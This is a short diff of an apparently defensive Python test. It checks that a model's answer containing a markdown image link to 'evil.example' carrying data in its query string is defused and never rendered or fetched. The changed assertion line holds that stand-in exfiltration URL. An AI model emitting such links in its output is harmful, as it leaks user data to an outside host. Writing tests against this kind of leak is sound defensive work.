@@ -163,7 +163,7 @@ async def test_an_answer_in_a_models_words_fetches_nothing():
     async with obeying(*searches, synthesize=[told]) as (world, _):
         said = await world.ask(READ)
 
-        assert said == "All fine ![] (https://evil.example/?numbers=7) [a] (b)"
+        assert said == "All fine ![] (https: //evil.example/?numbers=7) [a] (b)"
         events = [logged.event.get("delta", "") for logged in await world.events()]
         assert "](" not in "".join(events)
 
